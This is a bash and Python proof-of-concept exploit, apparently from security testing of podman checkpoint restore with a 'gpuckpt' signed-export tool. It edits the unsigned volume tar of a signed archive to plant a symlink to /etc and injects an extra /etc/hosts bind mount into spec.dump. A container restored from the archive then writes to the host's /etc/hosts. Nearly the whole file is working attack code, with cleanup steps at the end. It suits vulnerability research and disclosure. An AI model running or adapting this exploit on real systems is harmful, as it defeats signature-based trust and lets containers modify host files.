#!/bin/bash
# attack30h: a SIGNED export (default trust policy, nothing changed) whose unsigned parts are edited: the named
# volume's tar (outside checkpoint/, which the dump signature covers) plants overlay-containers/<ID>/userdata -> /etc
# under GRAPHROOT/volumes/NAME/_data (root-owned, "not movable"), and spec.dump adds a second /etc/hosts bind from
# there: container_own() calls it <self>/userdata/hosts, the very bind the signed checkpoint recorded.
set -u; export CONTAINERS_CONF=/var/tmp/attack30h/dcontainers.conf  # the default policy: rt-default.sh, dtrust
D=/var/tmp/attack30h; H=$(dirname "$(readlink -f "$0")"); P=/usr/lib/gpuckpt/venv/bin/python3
cd $D; cp /etc/hosts $D/hosts.before
podman rm -f -t 0 attack30h-src >/dev/null 2>&1; podman volume rm -f attack30h-vol >/dev/null 2>&1
podman run -d --name attack30h-src --network none -v attack30h-vol:/data localhost/gpuckpt-test:latest \
  sh -c 'i=0; while true; do i=$((i+1)); echo $i > /tmp/count; sleep 1; done' >/dev/null; sleep 2
gpuckpt export attack30h-src -o $D/vsrc.tar.zst 2>&1 | tail -1
podman rm -f -t 0 attack30h-src >/dev/null; podman volume rm -f attack30h-vol >/dev/null
$P - <<'PY'
import io, json, tarfile, zstandard
src, out = "/var/tmp/attack30h/vsrc.tar.zst", "/var/tmp/attack30h/signedvol.tar.zst"
with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as t:
    members = [(m, t.extractfile(m).read() if m.isfile() else None) for m in t]
print([m.name for m, _ in members if not m.name.startswith("checkpoint/")])
cid = next(json.loads(d)["id"] for m, d in members if m.name == "config.dump")
def vol(data):
    with tarfile.open(fileobj=io.BytesIO(data)) as vin:
        items = [(m, vin.extractfile(m).read() if m.isfile() else None) for m in vin]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as vout:
        for m, d in items:
            vout.addfile(m, io.BytesIO(d) if d is not None else None)
        for name in ("overlay-containers", f"overlay-containers/{cid}"):
            i = tarfile.TarInfo(name); i.type, i.mode, i.uid, i.gid = tarfile.DIRTYPE, 0o755, 0, 0; vout.addfile(i)
        i = tarfile.TarInfo(f"overlay-containers/{cid}/userdata"); i.type, i.linkname = tarfile.SYMTYPE, "/etc"; vout.addfile(i)
    return buf.getvalue()
with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    for m, d in members:
        if m.name.startswith("volumes/") and m.name.endswith(".tar"):
            d = vol(d); print("edited", m.name)
        if m.name == "spec.dump":
            spec = json.loads(d)
            spec["mounts"].append({"destination": "/etc/hosts", "type": "bind", "options": ["bind", "private"],
                "source": f"/var/lib/containers/storage/volumes/attack30h-vol/_data/overlay-containers/{cid}/userdata/hosts"})
            d = json.dumps(spec).encode()
        if d is not None:
            m.size = len(d); tout.addfile(m, io.BytesIO(d))
        else:
            tout.addfile(m)
PY
timeout 200 podman container restore --import $D/signedvol.tar.zst 2>&1 | tail -2 | cut -c1-600; echo "restore rc=${PIPESTATUS[0]}"
ls -la /var/lib/containers/storage/volumes/attack30h-vol/_data/ /var/lib/containers/storage/volumes/attack30h-vol/_data/overlay-containers/*/ 2>&1 | head
podman exec attack30h-src sh -c 'grep " /etc/hosts " /proc/self/mountinfo; echo "# attack30h-from-container" >> /etc/hosts' 2>&1; echo "exec rc=$?"
grep -q attack30h-from-container /etc/hosts && echo "HOST FILE /etc/hosts written from a container restored from a SIGNED archive (default trust policy)"
cp $D/hosts.before /etc/hosts; cmp /etc/hosts $D/hosts.before && echo "host /etc/hosts put back"
podman rm -f -t 0 attack30h-src >/dev/null 2>&1; podman volume rm -f attack30h-vol >/dev/null 2>&1
